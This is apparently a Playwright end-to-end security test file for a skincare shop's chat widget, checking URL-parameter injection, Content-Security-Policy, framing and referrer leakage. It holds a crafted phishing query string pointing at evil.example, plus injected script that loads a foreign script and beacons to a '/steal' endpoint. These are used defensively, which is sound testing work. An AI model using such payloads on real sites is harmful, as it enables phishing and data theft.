"""The demo page as an attacker meets it (real stack, real Chromium): nothing in its URL reaches the widget,
its Content-Security-Policy holds (and lets the widget work), no site can frame it, and it sends no referrer."""
from __future__ import annotations

import http.server
import threading
from contextlib import contextmanager
from typing import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from scripts.stack import free_port
from widget_steps import ABSORB_RANGE, ask, bot_messages, bot_said, launcher, open_chat, textbox, wait_until

pytestmark = [pytest.mark.browser, pytest.mark.e2e]

PHISHING = "?greeting=%5BYour+order+is+on+hold%2C+verify+here%5D(https%3A%2F%2Fevil.example%2Flogin)" \
           "&title=Lum%C3%A9+security&primary-color=%23ff0000&server-url=http%3A%2F%2Fevil.example"
#: Collects CSP violations from the page and from inside the widget's shadow root.
RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.__csp.push(e.violatedDirective + ' ' + (e.blockedURI || 'inline')), true);
"""


def violations(page) -> list:
    return page.evaluate("() => window.__csp")


def test_a_crafted_link_cannot_change_what_the_widget_says(page, demo_url):
    requests = []
    page.on("request", lambda request: requests.append(urlsplit(request.url).hostname))
    open_chat(page, demo_url + PHISHING)
    greeting = bot_messages(page).first
    expect(greeting).to_contain_text("Lumé skincare guide")  # the page's own greeting
    expect(greeting).not_to_contain_text("order is on hold")
    expect(page.locator("[data-chat-widget]").locator("a[href*='evil.example']")).to_have_count(0)
    expect(page.get_by_role("dialog", name="Lumé skincare guide")).to_be_visible()
    ask(page, "how long should the serum absorb?")
    expect(bot_said(page, ABSORB_RANGE)).to_be_visible()  # it still talks to the real server, not evil.example
    assert "evil.example" not in requests


def test_the_content_security_policy_blocks_injected_script_but_not_the_widget(page, demo_url):
    page.add_init_script(RECORD_VIOLATIONS)
    open_chat(page, demo_url)
    ask(page, "how long should the serum absorb?")
    expect(bot_said(page, ABSORB_RANGE)).to_be_visible()
    assert violations(page) == []  # the widget, its styles and its socket.io work under the policy

    page.evaluate("""() => {  // what an injection would try: inline script, a foreign script, a beacon
        const inline = document.createElement('script');
        inline.textContent = 'window.__pwned = 1';
        document.body.append(inline);
        const foreign = document.createElement('script');
        foreign.src = 'http://127.0.0.1:9/evil.js';
        document.body.append(foreign);
        fetch('http://127.0.0.1:9/steal').catch(() => {});
    }""")
    wait_until(page, "() => window.__csp.length >= 3")
    assert page.evaluate("() => window.__pwned") is None
    assert sorted(v.split(" ")[0] for v in violations(page)) == ["connect-src", "script-src-elem", "script-src-elem"]


@contextmanager
def framing_site(target: str) -> Iterator[str]:
    """Another site on loopback (another origin) whose page puts ``target`` in an iframe."""
    body = f'<!doctype html><title>elsewhere</title><iframe src="{target}" width="800" height="600"></iframe>'.encode()

    class Framer(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Framer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://localhost:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def test_no_other_site_can_frame_the_page(page, demo_url):
    """Clickjacking: a page elsewhere that puts the shop in an iframe gets an error page instead of the widget."""
    with framing_site(demo_url) as elsewhere:
        messages = []
        page.on("console", lambda message: messages.append(message.text))
        page.goto(elsewhere)  # "load" waits for the iframe too, error page or not
        framed = [frame.url for frame in page.frames if frame is not page.main_frame]
        assert demo_url not in framed, framed  # refused (today: the shop, widget and all)
        assert [m for m in messages if "frame-ancestors 'none'" in m and "blocked" in m], messages
        expect(page.frame_locator("iframe").get_by_role("button", name="Open chat")).to_have_count(0)
    page.goto(demo_url)  # the same page on its own loads as usual
    expect(launcher(page)).to_be_visible()


def test_no_referrer_leaves_the_page(page, demo_url):
    """Referrer-Policy: no-referrer — the Rasa server (and any site a link opens) never learns the page's URL."""
    referrers = []
    page.on("request", lambda request: referrers.append((request.url, request.headers.get("referer"))))
    open_chat(page, demo_url + "?campaign=private-token")
    ask(page, "how long should the serum absorb?")
    expect(bot_said(page, ABSORB_RANGE)).to_be_visible()
    to_rasa = [(url, ref) for url, ref in referrers if "/socket.io/" in url]
    assert to_rasa and not [ref for _, ref in to_rasa if ref], to_rasa  # today: the page's origin
    assert not [ref for url, ref in referrers if url.endswith("/widget.js") and ref]
    expect(textbox(page)).to_be_enabled()
